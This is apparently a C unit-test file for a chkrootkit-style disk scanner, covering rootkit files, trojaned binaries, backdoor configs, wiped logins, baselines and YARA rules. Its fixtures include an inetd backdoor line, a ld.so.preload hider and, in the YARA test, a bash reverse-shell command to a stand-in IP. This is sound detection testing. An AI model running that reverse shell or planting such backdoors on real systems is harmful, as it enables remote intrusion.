// SPDX-License-Identifier: MIT
/*
 * The disk checks over an in-memory tree (a fake source): each chkrootkit-derived check
 * fires on what chkrootkit's script looks for and stays quiet on a clean tree; the metadata
 * checks, exclusions and check selection; baselines written, read back and diffed; YARA's
 * built-in rules and a user rules directory with a broken rule.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "vigil/disk_scan.h"

struct fake_file {
	const char *path;
	uint32_t mode;
	const char *data; /* content, or a symlink's target */
	size_t len;	  /* 0: strlen(data) */
	uint32_t nlink, uid;
};

struct fake {
	const struct fake_file *v;
	size_t n;
};

static size_t flen(const struct fake_file *f)
{
	return f->len ? f->len : f->data ? strlen(f->data) : 0;
}

static int fake_list(struct vg_fsrc *s, struct vg_ftab *t, struct vg_err *err)
{
	const struct fake *fk = s->priv;
	struct vg_fent root = { .mode = S_IFDIR | 0755, .nlink = 2 };
	uint32_t idx;
	int ret;

	for (size_t k = 0; k < fk->n; k++)
		root.nlink += S_ISDIR(fk->v[k].mode) && !strchr(fk->v[k].path + 1, '/');
	ret = vg_ftab_add(t, UINT32_MAX, "", 0, &root, &idx, err);

	for (size_t i = 0; i < fk->n && !ret; i++) {
		const struct fake_file *f = &fk->v[i];
		const char *slash = strrchr(f->path, '/');
		struct vg_fent m = { .mode = f->mode,
				     .nlink = f->nlink ? f->nlink : 1,
				     .uid = f->uid,
				     .size = flen(f),
				     .ino = 100 + i,
				     .handle = i };
		char parent[512];
		long p = 0;

		snprintf(parent, sizeof(parent), "%.*s", (int)(slash - f->path), f->path);
		/* parents come first in the fixture lists */
		for (size_t k = 0; parent[0] && k < t->n; k++)
			if (!strcmp(vg_fent_path(t, &t->v[k]), parent))
				p = (long)k;
		/* a directory's links: its own entry, ".", and each subdirectory's ".." */
		if (S_ISDIR(f->mode) && !f->nlink) {
			m.nlink = 2;
			for (size_t k = 0; k < fk->n; k++) {
				const char *sub = fk->v[k].path;
				size_t l = strlen(f->path);

				if (S_ISDIR(fk->v[k].mode) && !strncmp(sub, f->path, l) &&
				    sub[l] == '/' && !strchr(sub + l + 1, '/'))
					m.nlink++;
			}
		}
		ret = vg_ftab_add(t, (uint32_t)p, slash + 1, strlen(slash + 1), &m, &idx, err);
		if (!ret && S_ISLNK(f->mode))
			ret = vg_ftab_set_link(t, idx, f->data, strlen(f->data));
	}
	return ret;
}

static int fake_read(struct vg_fsrc *s, const struct vg_fent *e, void *buf, size_t len,
		     struct vg_err *err)
{
	const struct fake *fk = s->priv;

	memcpy(buf, fk->v[e->handle].data, len);
	return 0;
}

static const struct vg_fsrc_ops fake_ops = { .list = fake_list, .read = fake_read };

struct result {
	struct vg_disk_scan r;
};

static void scan(const struct fake_file *files, size_t n, const struct vg_disk_scan_opts *o,
		 struct vg_disk_scan *r)
{
	struct fake fk = { .v = files, .n = n };
	struct vg_fsrc s = { .ops = &fake_ops, .kind = "fake", .priv = &fk };
	struct vg_disk_scan_opts none = { 0 };
	struct vg_err err = { 0 };

	if (vg_disk_scan(&s, o ? o : &none, r, &err))
		fail_msg("scan: %s", err.msg);
}

/* The finding of CHECK about TARGET, or NULL. */
static const struct vg_dfinding *found(const struct vg_disk_scan *r, const char *check,
				       const char *target)
{
	for (size_t i = 0; i < r->findings.n; i++)
		if (!strcmp(r->findings.v[i].check, check) &&
		    !strcmp(r->findings.v[i].target, target))
			return &r->findings.v[i];
	return NULL;
}

static void dump(const struct vg_disk_scan *r)
{
	for (size_t i = 0; i < r->findings.n; i++)
		print_message("  %s %s: %s\n", r->findings.v[i].check, r->findings.v[i].target,
			      r->findings.v[i].summary);
}

#define D(p)                                     \
	{                                        \
		p, S_IFDIR | 0755, NULL, 0, 0, 0 \
	}
#define F(p, s)                               \
	{                                     \
		p, S_IFREG | 0644, s, 0, 0, 0 \
	}
#define X(p, s)                               \
	{                                     \
		p, S_IFREG | 0755, s, 0, 0, 0 \
	}
#define B(p, s)                                           \
	{                                                 \
		p, S_IFREG | 0755, s, sizeof(s) - 1, 0, 0 \
	}
#define L(p, t)                               \
	{                                     \
		p, S_IFLNK | 0777, t, 0, 0, 0 \
	}

/* glibc x86-64 utmp records: time at 340, user at 44, line at 8 */
static char wtmp[4 * 384], lastlog[1001 * 292], lastlog_erased[1001 * 292];

static void make_logs(void)
{
	static const struct {
		const char *user, *line;
		int32_t t;
	} recs[] = { { "root", "pts/0", 1700000060 },
		     { "user", "pts/1", 1700000120 },
		     { "", "pts/1", 1700000180 },
		     { "user", "pts/2", 1700000240 } };

	memset(wtmp, 0, sizeof(wtmp));
	for (int i = 0; i < 4; i++) {
		char *r = wtmp + 384 * i;

		r[0] = recs[i].user[0] ? 7 : 8;
		memcpy(r + 8, recs[i].line, strlen(recs[i].line));
		memcpy(r + 44, recs[i].user, strlen(recs[i].user));
		memcpy(r + 340, &recs[i].t, 4);
	}
	memset(lastlog, 0, sizeof(lastlog));
	memcpy(lastlog, &recs[0].t, 4);
	memcpy(lastlog + 1000 * 292, &recs[3].t, 4);
	memcpy(lastlog_erased, lastlog, sizeof(lastlog));
	memset(lastlog_erased + 1000 * 292, 0, 292);
}

#define BASE_TREE                                                                           \
	D("/bin"), D("/etc"), D("/lib"), D("/sbin"), D("/tmp"), D("/usr"), D("/usr/bin"),   \
		D("/usr/lib"), D("/var"), D("/var/log"),                                    \
		B("/bin/ls", "\x7f"                                                         \
			     "ELF ls: invalid option -- '%c'\0/etc/ld.so.cache\0"),         \
		B("/bin/login", "\x7f"                                                      \
				"ELF login: \0/etc/securetty\0"),                           \
		B("/sbin/ifconfig", "\x7f"                                                  \
				    "ELF PROMISC\0ifconfig\0"),                             \
		X("/bin/busybox", "BusyBox v1.35 /dev/ptyqp"), L("/bin/ps", "busybox"),     \
		F("/etc/passwd",                                                            \
		  "root:x:0:0:root:/root:/bin/sh\nuser:x:1000:1000::/home/user:/bin/sh\n"), \
		F("/etc/shells", "/bin/sh\n/bin/bash\n"),                                   \
		F("/etc/inetd.conf", "#discard stream tcp nowait root internal\n")

static void clean_tree_gives_no_findings(void **state)
{
	struct vg_fake_logs;
	const struct fake_file files[] = {
		BASE_TREE,
		{ "/var/log/wtmp", S_IFREG | 0664, wtmp, sizeof(wtmp), 0, 0 },
		{ "/var/log/lastlog", S_IFREG | 0664, lastlog, sizeof(lastlog), 0, 0 },
		F("/tmp/notes", "one\ntwo <?php\n"), /* only a first #! line says PHP */
	};
	struct vg_disk_scan r;

	make_logs();
	scan(files, sizeof(files) / sizeof(files[0]), NULL, &r);
	dump(&r);
	assert_int_equal(r.findings.n, 0);
	/* only what the checks asked for: ls, login, ifconfig, passwd, inetd.conf, wtmp, and
	 * /tmp/notes for its first line */
	assert_int_equal(r.stats.files_read, 7);
	vg_disk_scan_free(&r);
}

static void finds_chkrootkit_files(void **state)
{
	const struct fake_file files[] = {
		BASE_TREE,
		D("/usr/lib/.fx"),
		F("/usr/lib/.fx/tcp.log", "sniffed"),
		D("/tmp/..."),
		F("/tmp/.../a", "55808"),
		F("/etc/ttyhash", "t0rn"),
		X("/usr/bin/xchk", "#!/bin/sh"),
		D("/tmp/.ICE-unix"),
		F("/tmp/.ICE-unix/mx.so", "x"),
		F("/usr/lib/.arkq", "x"),
		F("/tmp/ss0-1234", "mokes"),
		D("/dev"),
		D("/dev/ptyxx"),
		X("/tmp/dropper", "\x7f"
				  "ELF"),
	};
	struct vg_disk_scan r;
	const struct vg_dfinding *f;

	scan(files, sizeof(files) / sizeof(files[0]), NULL, &r);
	dump(&r);
	assert_non_null(f = found(&r, "rootkit-file", "/usr/lib/.fx"));
	assert_non_null(strstr(f->evidence, "\"rootkit\":\"sniffer log directory\""));
	assert_non_null(f = found(&r, "rootkit-file", "/tmp/.../a"));
	assert_non_null(strstr(f->evidence, "\"chkrootkit_test\":\"w55808\""));
	assert_non_null(found(&r, "rootkit-file", "/etc/ttyhash"));
	assert_non_null(found(&r, "rootkit-file", "/usr/bin/xchk"));
	assert_non_null(found(&r, "rootkit-file", "/tmp/.ICE-unix/mx.so"));
	assert_non_null(found(&r, "rootkit-file", "/usr/lib/.arkq"));
	assert_non_null(found(&r, "rootkit-file", "/tmp/ss0-1234"));
	assert_non_null(found(&r, "rootkit-file", "/dev/ptyxx"));
	assert_non_null(f = found(&r, "rootkit-file", "/tmp/dropper"));
	assert_non_null(strstr(f->evidence, "Xor.DDoS"));
	assert_non_null(found(&r, "hidden-file", "/tmp/..."));
	assert_non_null(found(&r, "hidden-file", "/usr/lib/.fx"));
	assert_string_equal(found(&r, "rootkit-file", "/etc/ttyhash")->attack, "T1014");
	vg_disk_scan_free(&r);
}

static void finds_trojaned_binaries_as_chkrootkit_does(void **state)
{
	const struct fake_file files[] = {
		D("/bin"),
		D("/sbin"),
		D("/usr"),
		D("/usr/bin"),
		B("/bin/ls", "\x7f"
			     "ELF\0/dev/ptyxx\0"),
		B("/bin/login", "\x7f"
				"ELF\0root\0"),
		B("/sbin/ifconfig", "\x7f"
				    "ELF\0ifconfig\0"),
		B("/usr/bin/write", "\x7f"
				    "ELF\0/usr/share/locale bash\0"),
		B("/usr/bin/du", "\x7f"
				 "ELF\0w0r\0m\0"),
		X("/bin/busybox", "BusyBox /dev/ptyq"),
		L("/bin/ps", "busybox"),
		B("/usr/bin/chsh", "\x7f"
				   "ELF\0/bin/bash\0*NOT*\0"),
	};
	struct vg_disk_scan r;
	const struct vg_dfinding *f;

	scan(files, sizeof(files) / sizeof(files[0]), NULL, &r);
	dump(&r);
	assert_non_null(f = found(&r, "trojaned-binary", "/bin/ls"));
	assert_non_null(strstr(f->evidence, "\"matched_string\":\"/dev/ptyxx\""));
	assert_int_equal(f->severity, VG_SEV_CRITICAL);
	assert_non_null(found(&r, "trojaned-binary", "/bin/login"));
	assert_non_null(found(&r, "trojaned-binary", "/sbin/ifconfig")); /* no PROMISC */
	assert_null(found(&r, "trojaned-binary", "/usr/bin/write"));	 /* "locale" lines */
	assert_null(found(&r, "trojaned-binary", "/usr/bin/du"));	 /* strings split */
	assert_null(found(&r, "trojaned-binary", "/bin/busybox"));	 /* a multi-call */
	assert_null(found(&r, "trojaned-binary", "/usr/bin/chsh"));	 /* PAM's *NOT* */
	assert_int_equal(r.findings.n, 3);
	vg_disk_scan_free(&r);
}

static void finds_backdoors_in_configuration(void **state)
{
	const struct fake_file files[] = {
		D("/etc"),
		D("/dev"),
		D("/tmp"),
		D("/var"),
		D("/var/spool"),
		D("/var/spool/cron"),
		D("/var/spool/cron/crontabs"),
		F("/etc/shells", "# shells\n/bin/sh\n/bin/zsh\n"),
		F("/etc/inetd.conf", "# comment\n31337 stream tcp nowait root /bin/zsh zsh -i\n"),
		F("/etc/passwd", "root:x:0:0::/root:/bin/sh\nkork:x:0:0::/:/bin/sh\n"),
		F("/dev/.conf", "2 hidden-proc\n"),
		F("/var/spool/cron/crontabs/nobody", "* * * * * /var/tmp/.x/run\n"),
		F("/tmp/up", "#!/usr/bin/php\n<?php echo 1;\n"),
		F("/etc/ld.so.preload", "/lib/libhide.so\n# note\n /nowhere.so:\n"),
		X("/lib", ""),
	};
	struct vg_disk_scan r;
	const struct vg_dfinding *f;

	scan(files, sizeof(files) / sizeof(files[0]), NULL, &r);
	dump(&r);
	assert_non_null(f = found(&r, "rootkit-config", "/etc/inetd.conf"));
	assert_non_null(strstr(f->evidence, "\"line\":2"));
	assert_non_null(f = found(&r, "rootkit-config", "/etc/passwd"));
	assert_non_null(strstr(f->summary, "LPD Worm"));
	assert_non_null(found(&r, "dev-file", "/dev/.conf"));
	assert_non_null(f = found(&r, "rootkit-config", "/var/spool/cron/crontabs/nobody"));
	assert_non_null(found(&r, "rootkit-file", "/tmp/up"));
	assert_non_null(f = found(&r, "preload-hider", "/etc/ld.so.preload"));
	assert_non_null(strstr(f->evidence, "\"path\":\"/lib/libhide.so\",\"exists\":false"));
	assert_non_null(strstr(f->evidence, "\"path\":\"/nowhere.so\""));
	assert_non_null(strstr(f->summary, "2 libraries"));
	vg_disk_scan_free(&r);
}

static void finds_wiped_logins(void **state)
{
	struct fake_file files[] = {
		D("/etc"),
		D("/var"),
		D("/var/log"),
		F("/etc/passwd", "root:x:0:0::/root:/bin/sh\nuser:x:1000:1000::/:/bin/sh\n"),
		{ "/var/log/wtmp", S_IFREG | 0664, wtmp, sizeof(wtmp), 0, 0 },
		{ "/var/log/lastlog", S_IFREG | 0664, lastlog_erased, sizeof(lastlog), 0, 0 },
	};
	struct vg_disk_scan r;
	const struct vg_dfinding *f;

	make_logs();
	memset(wtmp + 384, 0, 384); /* a log cleaner zeroed the second record */
	scan(files, sizeof(files) / sizeof(files[0]), NULL, &r);
	dump(&r);
	assert_non_null(f = found(&r, "log-tampering", "/var/log/wtmp"));
	assert_non_null(strstr(f->evidence, "\"deleted_records\":1"));
	assert_non_null(strstr(f->evidence, "\"first_record\":1"));
	assert_non_null(f = found(&r, "log-tampering", "user"));
	assert_string_equal(f->kind, "user");
	assert_int_equal(r.findings.n, 2);
	vg_disk_scan_free(&r);
}

static void finds_metadata_anomalies(void **state)
{
	const struct fake_file files[] = {
		D("/bin"),
		D("/etc"),
		D("/tmp"),
		D("/usr"),
		D("/usr/share"),
		{ "/bin/date", S_IFREG | 04755, "date", 0, 0, 0 },
		{ "/tmp/sh", S_IFREG | 04755, "sh", 0, 0, 0 },
		{ "/etc/hosts", S_IFREG | 0666, "127.0.0.1", 0, 0, 0 },
		{ "/usr/share/drop", S_IFDIR | 0777, NULL, 0, 0, 0 },
		{ "/usr/share/full", S_IFDIR | 0755, NULL, 0, 5, 0 },
		D("/usr/share/full/one"),
		D("/usr/share/. "),
		F("/usr/share/new\nline", "x"),
		D("/root"),
		F("/root/.bash_history", ""),
		L("/root/.sh_history", "/dev/null"),
		D("/home"),
		D("/home/u"),
		F("/home/u/.bash_history", "ls\n"),
	};
	const char *const only[] = { "suid-file",   "world-writable", "dir-link-count",
				     "hidden-file", "log-tampering",  NULL };
	const char *const excludes[] = { "/usr/share/drop", NULL };
	struct vg_disk_scan_opts o = { .only = only };
	struct vg_disk_scan r;

	scan(files, sizeof(files) / sizeof(files[0]), &o, &r);
	dump(&r);
	assert_int_equal(found(&r, "suid-file", "/tmp/sh")->severity, VG_SEV_CRITICAL);
	assert_non_null(found(&r, "suid-file", "/bin/date"));
	assert_int_equal(found(&r, "world-writable", "/etc/hosts")->severity, VG_SEV_HIGH);
	assert_non_null(found(&r, "world-writable", "/usr/share/drop"));
	assert_non_null(found(&r, "dir-link-count", "/usr/share/full"));
	assert_non_null(found(&r, "hidden-file", "/usr/share/. "));
	assert_non_null(found(&r, "hidden-file", "/usr/share/new\nline"));
	assert_int_equal(found(&r, "log-tampering", "/root/.bash_history")->severity,
			 VG_SEV_MEDIUM);
	assert_int_equal(found(&r, "log-tampering", "/root/.sh_history")->severity, VG_SEV_HIGH);
	assert_int_equal(r.findings.n, 9);
	vg_disk_scan_free(&r);
	o.excludes = excludes;
	scan(files, sizeof(files) / sizeof(files[0]), &o, &r);
	assert_null(found(&r, "world-writable", "/usr/share/drop"));
	assert_int_equal(r.findings.n, 8);
	vg_disk_scan_free(&r);
}

static void baselines_round_trip_and_diff(void **state)
{
	struct fake_file files[] = {
		D("/bin"),
		D("/etc"),
		X("/bin/sh", "shell v1"),
		F("/etc/motd", "hello"),
		F("/etc/gone", "bye"),
		L("/bin/bash", "sh"),
	};
	struct vg_disk_scan_opts o = { .hash = true, .only = (const char *const[]){ "", NULL } };
	struct vg_disk_scan r;
	struct vg_dbase was, back, now;
	struct vg_dfindings d = { 0 };
	struct vg_err err = { 0 };
	char file[64];

	scan(files, sizeof(files) / sizeof(files[0]), &o, &r);
	assert_int_equal(vg_disk_baseline_of(&r, &was, &err), 0);
	snprintf(file, sizeof(file), "/tmp/vigil-test-baseline-%d.json", getpid());
	unlink(file);
	assert_int_equal(vg_disk_baseline_write(&r, "fake", file, &err), 0);
	assert_int_equal(vg_disk_baseline_write(&r, "fake", file, &err), -EEXIST);
	assert_int_equal(vg_disk_baseline_read(file, &back, &err), 0);
	unlink(file);
	vg_disk_scan_free(&r);
	assert_int_equal(back.n, was.n);
	for (size_t i = 0; i < was.n; i++) {
		assert_string_equal(back.v[i].path, was.v[i].path);
		assert_int_equal(back.v[i].hashed, was.v[i].hashed);
		assert_memory_equal(back.v[i].hash, was.v[i].hash, 32);
	}
	assert_int_equal(vg_disk_diff(&was, &back, NULL, &d, &err), 0);
	assert_int_equal(d.n, 0);
	/* a new setuid shell, changed content with the same mtime, a removed file */
	files[2].data = "shell v2";
	files[2].mode |= S_ISUID;
	files[4].path = "/etc/new";
	scan(files, sizeof(files) / sizeof(files[0]), &o, &r);
	assert_int_equal(vg_disk_baseline_of(&r, &now, &err), 0);
	assert_int_equal(vg_disk_diff(&was, &now, NULL, &d, &err), 0);
	assert_int_equal(d.n, 3);
	assert_string_equal(d.v[0].check, "file-changed");
	assert_string_equal(d.v[0].target, "/bin/sh");
	assert_int_equal(d.v[0].severity, VG_SEV_CRITICAL);
	assert_non_null(strstr(d.v[0].evidence, "\"changed\":\"content,mode\""));
	assert_string_equal(d.v[1].check, "file-removed");
	assert_string_equal(d.v[1].target, "/etc/gone");
	assert_string_equal(d.v[2].check, "file-added");
	vg_dfindings_free(&d);
	vg_disk_scan_free(&r);
	vg_disk_baseline_free(&was);
	vg_disk_baseline_free(&back);
	vg_disk_baseline_free(&now);
}

static int count_matches;
static char last_rule[64];

static void on_match(void *ctx, const struct vg_yara_match *m)
{
	count_matches++;
	snprintf(last_rule, sizeof(last_rule), "%s", m->rule);
}

static void yara_rules_built_in_and_from_a_directory(void **state)
{
	static const char shell[] = "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.1/443 0>&1\n";
	static const char eicar[] =
		"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
	char rdir[64], rfile[96];
	struct vg_yara *y;
	struct vg_yara_scanner *ys;
	struct vg_err err = { 0 };
	uint8_t noise[65536];
	FILE *f;

	assert_int_equal(vg_yara_open(&y, NULL, false, &err), 0);
	assert_true(vg_yara_count(y) >= 5);
	assert_int_equal(vg_yara_scanner_open(y, &ys, &err), 0);
	count_matches = 0;
	assert_int_equal(vg_yara_scan(ys, shell, strlen(shell), on_match, NULL, &err), 0);
	assert_int_equal(count_matches, 1);
	assert_string_equal(last_rule, "vigil_reverse_shell");
	assert_int_equal(vg_yara_scan(ys, eicar, strlen(eicar), on_match, NULL, &err), 0);
	assert_string_equal(last_rule, "vigil_eicar_test_file");
	for (size_t i = 0; i < sizeof(noise); i++)
		noise[i] = (uint8_t)(i * 2654435761u >> 13);
	count_matches = 0;
	assert_int_equal(vg_yara_scan(ys, noise, sizeof(noise), on_match, NULL, &err), 0);
	assert_int_equal(count_matches, 0);
	vg_yara_scanner_close(ys);
	vg_yara_close(y);
	/* a user directory: its rules join the built-in ones; a broken rule names its file */
	snprintf(rdir, sizeof(rdir), "/tmp/vigil-test-yara-%d", getpid());
	mkdir(rdir, 0700);
	snprintf(rfile, sizeof(rfile), "%s/site.yar", rdir);
	f = fopen(rfile, "w");
	fputs("rule site_marker { strings: $a = \"vigil-site-marker\" condition: $a }\n", f);
	fclose(f);
	assert_int_equal(vg_yara_open(&y, rdir, true, &err), 0);
	assert_int_equal(vg_yara_count(y), 1);
	assert_int_equal(vg_yara_scanner_open(y, &ys, &err), 0);
	assert_int_equal(vg_yara_scan(ys, "..vigil-site-marker..", 21, on_match, NULL, &err), 0);
	assert_string_equal(last_rule, "site_marker");
	vg_yara_scanner_close(ys);
	vg_yara_close(y);
	f = fopen(rfile, "w");
	fputs("rule broken {\n condition: $nope }\n", f);
	fclose(f);
	assert_int_equal(vg_yara_open(&y, rdir, false, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "site.yar line 2"));
	unlink(rfile);
	rmdir(rdir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(clean_tree_gives_no_findings),
		cmocka_unit_test(finds_chkrootkit_files),
		cmocka_unit_test(finds_trojaned_binaries_as_chkrootkit_does),
		cmocka_unit_test(finds_backdoors_in_configuration),
		cmocka_unit_test(finds_wiped_logins),
		cmocka_unit_test(finds_metadata_anomalies),
		cmocka_unit_test(baselines_round_trip_and_diff),
		cmocka_unit_test(yara_rules_built_in_and_from_a_directory),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
